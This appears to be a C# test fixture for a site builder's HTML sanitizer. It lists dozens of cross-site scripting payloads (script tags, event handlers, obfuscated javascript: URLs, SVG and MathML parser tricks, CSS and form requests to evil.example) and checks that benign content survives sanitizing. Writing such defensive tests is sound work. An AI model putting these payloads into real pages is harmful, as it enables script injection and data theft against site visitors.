namespace SiteBuilder.Generation.Tests.Sanitizing;

/// <summary>One hostile model output: the attack, where it sits in the page, and what benign content around it must survive.</summary>
/// <param name="Name">Short and unique; the theory's display name.</param>
/// <param name="Attack">The hostile markup.</param>
/// <param name="AtEnd">The attack ends the stream (an unclosed tag or quote): nothing of the page follows it.</param>
/// <param name="Keeps">CSS selectors (optionally with <c>=text</c>: the element's text) that must be in the sanitized page.</param>
public sealed record AttackCase(string Name, string Attack, bool AtEnd = false, params string[] Keeps)
{
    /// <summary>A whole page with the attack in its hero, so the benign page around it can be checked too.</summary>
    public string Page => AtEnd ? Head + Body + Attack : Head + Body + Attack + Tail;

    public const string Head =
        "<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\"><meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">" +
        "<title>Spring Sale</title><style>.hero{color:#0066CC;display:grid;gap:clamp(1rem,2vw,2rem)}</style></head>\n";

    public const string Body = "<body><header class=\"site-header\"><h1 class=\"title\">Spring Sale</h1></header>\n<main id=\"main\"><section class=\"hero\" aria-label=\"Offer\">\n";

    public const string Tail = "\n</section><p class=\"after\">Free shipping on <strong>every</strong> order.</p></main><footer><p>© Acme</p></footer></body></html>\n";
}

/// <summary>
/// What a model might be tricked into writing: scripts in every spelling, handlers, script URLs hidden by entities and
/// whitespace, frames and embeds, refreshes, forms that post elsewhere, parser confusions (comments, CDATA, raw text,
/// foreign content) and CSS that fetches or runs code.
/// </summary>
public static class AttackCorpus
{
    private const string Svg64 = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=";

    public static IReadOnlyList<AttackCase> All { get; } =
    [
        new("script", "<script>alert(1)</script><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("script-uppercase-src", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("script-module", "<script type=\"module\">import('https://evil.example/m.js')</script><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("script-end-tag-with-space", "<script>/*</script >*/alert(1)</script ><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("script-end-tag-with-newline-and-junk", "<script>a='</script\n foo=\"bar\">'</script\t><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("script-in-string", "<script>document.write(\"<scr\"+\"ipt src=//evil.example/x.js></scr\"+\"ipt>\")</script><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("script-tag-with-attribute-in-name-position", "<script/xss src=\"https://evil.example/x.js\"></script><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("img-onerror", "<img src=x onerror=alert(1) alt=\"Tent\" width=\"40\" height=\"30\">", Keeps: ["img[alt=Tent][src=x][width='40']"]),
        // As in a browser, the unquoted handler runs to the next space: alt is part of its value and goes with it.
        new("img-slash-separated", "<img/src=\"x.png\"/onerror=alert(1)/alt=\"Tent\">", Keeps: ["img[src='x.png']"]),
        new("handler-with-spaces", "<img src=\"x.png\" onerror =\"alert(1)\" onload\n=alert(2) alt=\"Tent\">", Keeps: ["img[src='x.png'][alt=Tent]"]),
        new("onclick-uppercase", "<div ONCLICK=\"alert(1)\" OnMouseOver='alert(2)' class=\"card\">Card</div>", Keeps: ["div.card=Card"]),
        new("second-body-onload", "<body onload=\"alert(1)\" class=\"x\"><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("svg-onload", "<svg onload=alert(1) viewBox=\"0 0 10 10\" width=\"10\" height=\"10\"><circle cx=\"5\" cy=\"5\" r=\"4\" fill=\"#0066CC\" onclick=\"x()\"/></svg>", Keeps: ["svg circle[r='4'][fill='#0066CC']"]),
        new("autofocus-onfocus", "<a href=\"https://ok.example/\" onfocus=alert(1) autofocus class=\"btn\">OK</a>", Keeps: ["a.btn[href='https://ok.example/']=OK"]),
        new("javascript-href", "<a href=\"javascript:alert(1)\" class=\"btn\">Buy now</a>", Keeps: ["a.btn=Buy now"]),
        new("javascript-mixed-case", "<a href=\"JaVaScRiPt:alert(1)\" class=\"btn\">Buy</a>", Keeps: ["a.btn=Buy"]),
        new("javascript-decimal-entity", "<a href=\"java&#115;cript:alert(1)\" class=\"btn\">Buy</a>", Keeps: ["a.btn=Buy"]),
        new("javascript-hex-entity", "<a href=\"&#x6A;avascript:alert(1)\" class=\"btn\">Buy</a>", Keeps: ["a.btn=Buy"]),
        new("javascript-all-entities", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\" class=\"btn\">Buy</a>", Keeps: ["a.btn=Buy"]),
        new("javascript-entity-without-semicolon", "<a href=\"&#106avascript&#58alert(1)\" class=\"btn\">Buy</a>", Keeps: ["a.btn=Buy"]),
        new("javascript-padded-entity", "<a href=\"&#0000106;avascript:alert(1)\" class=\"btn\">Buy</a>", Keeps: ["a.btn=Buy"]),
        new("javascript-tab-inside", "<a href=\"jav\tascript:alert(1)\" class=\"btn\">Buy</a>", Keeps: ["a.btn=Buy"]),
        new("javascript-newline-inside", "<a href=\"java\nscript:alert(1)\" class=\"btn\">Buy</a>", Keeps: ["a.btn=Buy"]),
        new("javascript-entity-tab-and-newline", "<a href=\"java&#x09;scr&#x0A;ipt:alert(1)\" class=\"btn\">Buy</a>", Keeps: ["a.btn=Buy"]),
        new("javascript-leading-space-and-controls", "<a href=\" &#x01;&#x20;javascript:alert(1)\" class=\"btn\">Buy</a>", Keeps: ["a.btn=Buy"]),
        new("javascript-html5-named-entities", "<a href=\"javascript&colon;alert(1)\" class=\"btn\">Buy</a><a href=\"java&Tab;script:alert(2)\" class=\"btn2\">Buy</a>", Keeps: ["a.btn=Buy", "a.btn2=Buy"]),
        new("javascript-unquoted", "<a href=javascript:alert(1) class=btn>Buy</a>", Keeps: ["a.btn=Buy"]),
        new("vbscript-href", "<a href=\"vbscript:msgbox(1)\" class=\"btn\">Old</a>", Keeps: ["a.btn=Old"]),
        new("data-html-href", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\" class=\"btn\">Open</a>", Keeps: ["a.btn=Open"]),
        new("data-svg-on-link", $"<a href=\"data:image/svg+xml;base64,{Svg64}\" class=\"btn\">Open</a>", Keeps: ["a.btn=Open"]),
        new("data-svg-on-img", $"<img src=\"data:image/svg+xml;base64,{Svg64}\" alt=\"Badge\" class=\"badge\">", Keeps: [$"img.badge[src='data:image/svg+xml;base64,{Svg64}']"]),
        new("data-html-on-img", "<img src=\"data:text/html,<script>alert(1)</script>\" alt=\"Badge\" class=\"badge\">", Keeps: ["img.badge[alt=Badge]"]),
        new("iframe", "<iframe src=\"https://evil.example/\"></iframe><iframe srcdoc=\"<script>alert(1)</script>\"></iframe><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("object-embed-applet", "<object data=\"movie.swf\" type=\"application/x-shockwave-flash\"><param name=\"a\" value=\"b\"><p>fallback</p></object><embed src=\"movie.swf\"><applet code=\"X.class\"></applet><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("frameset", "<frameset><frame src=\"https://evil.example/\"></frameset><frame src=\"javascript:alert(1)\"><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("base", "<base href=\"https://evil.example/\"><a href=\"/pricing\" class=\"btn\">Pricing</a>", Keeps: ["a.btn[href='/pricing']=Pricing"]),
        new("link", "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\"><link rel=\"import\" href=\"https://evil.example/x.html\"><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\"><META HTTP-EQUIV=\"Set-Cookie\" CONTENT=\"a=b\"><meta name=\"description\" content=\"Sale\"><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead", "meta[name=description][content=Sale]"]),
        new("form-posting-off-site", "<form action=\"https://collector.example/subscribe\" method=\"post\" class=\"signup\"><label for=\"e\">Email</label><input id=\"e\" name=\"email\" type=\"email\"><button type=\"submit\" formaction=\"https://evil.example/\">Go</button></form>", Keeps: ["form.signup", "label[for=e]=Email", "input#e[type=email]", "button=Go"]),
        new("form-protocol-relative", "<form action=\"//evil.example/\" class=\"signup\"><button>Go</button></form><form action=\"#signup\" class=\"local\"><button>Stay</button></form>", Keeps: ["form.signup", "form.local[action='#signup']", "form.local button=Stay"]),
        new("form-javascript-action", "<form action=\"javascript:alert(1)\" class=\"signup\"><input type=\"image\" src=\"javascript:alert(2)\" alt=\"Send\"><button formaction=\"javascript:alert(3)\">Go</button></form>", Keeps: ["form.signup", "button=Go"]),
        new("isindex", "<isindex action=\"javascript:alert(1)\" type=\"image\"></isindex><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("target-blank-without-rel", "<a href=\"https://partner.example/\" target=\"_blank\" class=\"partner\">Partner</a>", Keeps: ["a.partner[href='https://partner.example/'][target=_blank]=Partner"]),
        new("svg-style-breakout", "<svg width=\"10\" height=\"10\"><style><img src=x onerror=alert(1)></style><rect width=\"10\" height=\"10\" class=\"mark\"></rect></svg>", Keeps: ["rect.mark"]),
        new("svg-script-and-links", "<svg width=\"10\" height=\"10\"><script>alert(1)</script><a xlink:href=\"javascript:alert(2)\" href=\"javascript:alert(3)\"><text x=\"1\" y=\"9\">Go</text></a></svg>", Keeps: ["svg text=Go"]),
        new("svg-animate-set", "<svg width=\"10\" height=\"10\"><a id=\"l\"><animate attributeName=\"href\" to=\"javascript:alert(1)\"/><set attributeName=\"onmouseover\" to=\"alert(2)\"/><circle r=\"4\" class=\"dot\"/></a></svg>", Keeps: ["svg circle.dot"]),
        new("svg-use-remote", "<svg width=\"10\" height=\"10\"><defs><symbol id=\"i\"><rect width=\"4\" height=\"4\"/></symbol></defs><use href=\"http://evil.example/sprite.svg#i\"/><use xlink:href=\"https://evil.example/s.svg#i\"/><use href=\"#i\" class=\"local\"/></svg>", Keeps: ["svg use.local[href='#i']", "svg symbol#i"]),
        new("svg-foreign-object", "<svg width=\"10\" height=\"10\"><foreignObject><iframe src=\"javascript:alert(1)\"></iframe><p>in svg</p></foreignObject><rect class=\"mark\" width=\"1\" height=\"1\"/></svg>", Keeps: ["svg rect.mark"]),
        new("svg-cdata", "<svg width=\"10\" height=\"10\"><![CDATA[</svg><img src=x onerror=alert(1)>]]><rect class=\"mark\" width=\"1\" height=\"1\"/></svg><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("comment-empty", "<!--><script>alert(1)</script>--><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("comment-short-dash", "<!---><img src=x onerror=alert(1)>--><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("comment-bang-end", "<!-- a --!><script>alert(1)</script><!-- b --><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("comment-in-attribute", "<p class=\"lead\" title=\"<!--\">Lead</p><img src=x onerror=alert(1)><!-- -->", Keeps: ["p.lead=Lead"]),
        new("cdata-in-html", "<![CDATA[<script>alert(1)</script>]]><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("processing-instruction", "<?xml-stylesheet href=\"https://evil.example/x.xsl\"?><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        // Whether p.lead shows depends on the scripting flag (a sandboxed preview has none): only the page around it is checked.
        new("noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript><p class=\"lead\">Lead</p>"),
        new("template", "<template><script>alert(1)</script><img src=x onerror=alert(2)></template><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("nested-dropped", "<object><object><embed src=\"x\"></object><script>alert(1)</script><iframe src=\"x\"></iframe></object><template><template><script>alert(2)</script></template><img src=x onerror=alert(3)></template><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("xmp-and-noembed", "<xmp><script>alert(1)</script></xmp><noembed><img src=x onerror=alert(2)></noembed><noframes><script>alert(3)</script></noframes><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("srcset-javascript", "<img src=\"ok.png\" srcset=\"ok.png 1x, javascript:alert(1) 2x\" alt=\"Tent\" class=\"pic\">", Keeps: ["img.pic[src='ok.png'][alt=Tent]"]),
        new("srcset-data-html", "<picture><source srcset=\"data:text/html,<script>alert(1)</script> 1x\"><img src=\"ok.png\" alt=\"Tent\" class=\"pic\"></picture>", Keeps: ["picture img.pic[src='ok.png']"]),
        new("style-attribute-expression", "<div style=\"width:expression(alert(1));color:#0066CC\" class=\"card\">Card</div>", Keeps: ["div.card[style='color:#0066CC']=Card"]),
        new("style-attribute-javascript-url", "<div style=\"background:url(javascript:alert(1));padding:1rem\" class=\"card\">Card</div><div style=\"background-image:url('https://evil.example/p.gif')\" class=\"card2\">Two</div>", Keeps: ["div.card[style='padding:1rem']=Card", "div.card2=Two"]),
        new("style-attribute-escaped", "<div style=\"background:u\\72l(https://evil.example/p.gif);color:#0066CC;behavior:url(x.htc)\" class=\"card\">Card</div>", Keeps: ["div.card=Card"]),
        new("style-block-import", "<style>@import url(\"https://evil.example/x.css\");@import 'https://evil.example/y.css';.card{padding:1rem}.spy{background:url(https://evil.example/p.gif)}</style><div class=\"card\">Card</div>", Keeps: ["div.card=Card"]),
        new("style-block-breakout", "<style>.card{padding:1rem}</style ><script>alert(1)</script><style>.x{content:\"</style><script>alert(2)</script>\"}</style><div class=\"card\">Card</div>", Keeps: ["div.card=Card"]),
        new("attribute-with-markup", "<div title=\"&lt;/div&gt;&lt;script&gt;alert(1)&lt;/script&gt;\" class=\"card\" data-note='a\"b'>Card</div>", Keeps: ["div.card=Card"]),
        new("escaped-markup-as-text", "<p class=\"lead\">Use &lt;script&gt; tags &amp; more</p>", Keeps: ["p.lead=Use <script> tags & more"]),
        new("safe-links", "<a href=\"mailto:sales@acme.example\" class=\"m\">Mail</a><a href=\"tel:+15550100\" class=\"t\">Call</a><a href=\"/pricing?plan=pro#faq\" class=\"r\">Pricing</a>", Keeps: ["a.m[href='mailto:sales@acme.example']", "a.t[href='tel:+15550100']", "a.r[href='/pricing?plan=pro#faq']"]),
        new("media-with-script-urls", "<video poster=\"javascript:alert(1)\" controls class=\"v\"><source src=\"javascript:alert(2)\"><track src=\"vbscript:x\"></video>", Keeps: ["video.v"]),
        new("unknown-element-closed", "<blink class=\"b\">Blink</blink><marquee onstart=alert(1)>Marquee</marquee><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("nul-in-tag-name", "<scr\0ipt>alert(1)</scr\0ipt><p class=\"lead\">Lead</p>", Keeps: ["p.lead=Lead"]),
        new("unclosed-script-at-end", "<p class=\"lead\">Lead</p><script>alert(1)", AtEnd: true, Keeps: ["p.lead=Lead"]),
        new("unclosed-script-end-tag-at-end", "<p class=\"lead\">Lead</p><script>alert(1)</scri", AtEnd: true, Keeps: ["p.lead=Lead"]),
        new("unclosed-quote-at-end", "<p class=\"lead\">Lead</p><img src=\"x\" onerror=\"alert(1)", AtEnd: true, Keeps: ["p.lead=Lead"]),
        new("unclosed-tag-at-end", "<p class=\"lead\">Lead</p><a href=\"javascript:alert(1)\" class=\"btn\"", AtEnd: true, Keeps: ["p.lead=Lead"]),
        new("unclosed-comment-at-end", "<p class=\"lead\">Lead</p><!-- <script>alert(1)</script>", AtEnd: true, Keeps: ["p.lead=Lead"]),
        new("unclosed-style-at-end", "<p class=\"lead\">Lead</p><style>.x{background:url(https://evil.example/p.gif)}.y{color:red", AtEnd: true, Keeps: ["p.lead=Lead"]),
        new("script-src-cheat-at-end", "<p class=\"lead\">Lead</p><SCRIPT SRC=//evil.example/x.js?<B>", AtEnd: true, Keeps: ["p.lead=Lead"]),
        new("iframe-javascript-unclosed-at-end", "<p class=\"lead\">Lead</p><iframe src=javascript:alert(1)>", AtEnd: true, Keeps: ["p.lead=Lead"]),
        new("lone-angle-brackets", "<p class=\"lead\">1 < 2 and 3 > 2 <</p><p class=\"x\">x</p> <", Keeps: ["p.lead", "p.x=x"]),
    ];

    private static readonly Dictionary<string, AttackCase> ByName = All.ToDictionary(c => c.Name, StringComparer.Ordinal);

    public static AttackCase Get(string name) => ByName[name];

    public static TheoryData<string> Names => new(All.Select(c => c.Name));
}
